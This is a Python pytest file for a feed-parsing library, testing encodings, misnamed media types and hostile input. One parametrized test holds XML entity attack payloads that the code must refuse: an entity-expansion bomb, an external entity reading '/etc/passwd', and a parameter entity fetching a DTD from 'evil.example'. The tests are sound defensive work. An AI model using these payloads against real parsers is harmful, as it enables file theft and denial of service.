from pathlib import Path

import pytest

from hudna.sources.feeds import Entry, listing_of
from hudna.sources.unreadable import UnreadableError
from tests.unit.sources.feeds.given import FEED, atom, listing, response, rss

ITEM = "<item><title>هدنة</title><link>/a</link></item>"
PAGE = "<!doctype html><html><head><title>For sale</title></head><body>This domain is for sale</body></html>"


@pytest.mark.parametrize(
    "media", ["text/html", "text/plain", "application/json", "application/octet-stream", None, "rubbish"]
)
def test_a_feed_is_one_whatever_its_server_calls_it(media: str | None) -> None:
    assert listing(rss(ITEM), media).entries[0].title == "هدنة"


@pytest.mark.parametrize("media", ["application/rss+xml", "text/html; charset=utf-8", None])
@pytest.mark.parametrize(
    "page", [PAGE, PAGE.upper(), "\n<!-- a --><html></html>", "<html xmlns='http://www.w3.org/1999/xhtml'/>"]
)
def test_a_feed_that_turned_into_a_page_is_told(media: str | None, page: str) -> None:
    with pytest.raises(UnreadableError) as error:
        listing(page, media)
    assert str(error.value) == "a web page, not a feed"


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("", "it is empty"),
        (" \n ", "it is empty"),
        ("%PDF-1.7 ...", "a PDF document, not text"),
        ("Not found", "neither a feed nor a sitemap"),
        ("<opml version='2.0'><body/></opml>", "neither a feed nor a sitemap, but <opml>"),
        (b"\x00\x01\x02\x03" * 100, "not text in any encoding that is recognised; perhaps a binary file"),
    ],
)
def test_what_is_neither_feed_nor_sitemap_says_what_it_is(body: str | bytes, reason: str) -> None:
    with pytest.raises(UnreadableError) as error:
        listing(body)
    assert str(error.value) == reason


@pytest.mark.parametrize(
    "head",
    [
        "<!DOCTYPE rss [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'>]>",
        "<!doctype rss [ <!entity a SYSTEM 'file:///etc/passwd'> ]>",
        "<!-- a --><!DOCTYPE rss [<!ENTITY % a SYSTEM 'http://evil.example/x.dtd'> %a;]>",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_of_its_own_are_refused_before_any_parser_sees_them(head: str, encoding: str) -> None:
    feed = f"{head}<rss version='2.0'><channel><title>&b;</title>{ITEM}</channel></rss>"
    with pytest.raises(UnreadableError, match="it declares entities of its own, which are not expanded"):
        listing(feed.encode(encoding))


def test_words_about_entities_are_no_entities() -> None:
    found = listing(rss("<item><link>/a</link><title>How <![CDATA[<!ENTITY x>]]> works</title></item>"))
    assert len(found.entries) == 1


def test_the_doctype_of_an_old_feed_does_no_harm() -> None:
    doctype = '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.example/rss-0.91.dtd">'
    assert len(listing(f"{doctype}<rss version='0.91'><channel>{ITEM}</channel></rss>").entries) == 1


@pytest.mark.parametrize(
    ("encoding", "declared", "media"),
    [
        ("utf-8", "iso-8859-1", "text/xml; charset=iso-8859-1"),  # the declaration is wrong
        ("utf-8", "utf-8", "application/rss+xml; charset=windows-1256"),  # the server is
        ("windows-1256", "windows-1256", "text/xml"),
        ("windows-1256", "windows-1256", "text/xml; charset=utf-8"),  # the server is wrong again
        ("utf-16", "utf-16", None),
    ],
)
def test_letters_come_out_right_whoever_is_wrong_about_them(encoding: str, declared: str, media: str | None) -> None:
    feed = f"<?xml version='1.0' encoding='{declared}'?><rss version='2.0'><channel>{ITEM}</channel></rss>"
    assert listing(feed.encode(encoding), media).entries[0].title == "هدنة"


def test_what_a_server_lets_slip_before_a_feed_is_left_out_and_told() -> None:
    found = listing("<br />\n<b>Warning</b>: no such table\n" + rss(ITEM))
    assert len(found.entries) == 1
    assert found.notices == ("75 characters before its beginning left out",)
    assert listing("\n\n\ufeff" + rss(ITEM)).notices == ()


def test_a_page_that_is_followed_itself_is_its_only_entry() -> None:
    found = listing_of(response(PAGE, url="https://news.example/daily"), is_page=True)
    assert (found.kind, found.entries) == (
        "page",
        (Entry(url="https://news.example/daily", id="https://news.example/daily"),),
    )


def test_a_file_of_this_machine_is_not_opened_for_a_feed_that_is_its_name(tmp_path: Path) -> None:
    """feedparser would take a text for an address or a file's name."""
    secret = tmp_path / "secret.xml"
    secret.write_text(rss(ITEM))
    for text in (str(secret), secret.as_uri(), FEED):
        with pytest.raises(UnreadableError):
            listing(text)


def test_deep_nesting_does_no_harm() -> None:
    found = listing(rss(f"<item><link>/a</link><description>{'<b>' * 20_000}x{'</b>' * 20_000}</description></item>"))
    assert len(found.entries) == 1
    assert len(listing(atom(f"<entry><id>7</id><link href='/7'/>{'<a>' * 5000}{'</a>' * 5000}</entry>")).entries) == 1


def test_a_feed_of_nothing_but_tags_is_refused() -> None:
    with pytest.raises(UnreadableError, match="a feed of 2,000,010 tags, more than 100,000"):
        listing(rss(f"<item><link>/a</link>{'<category>a</category>' * 1_000_000}</item>"))
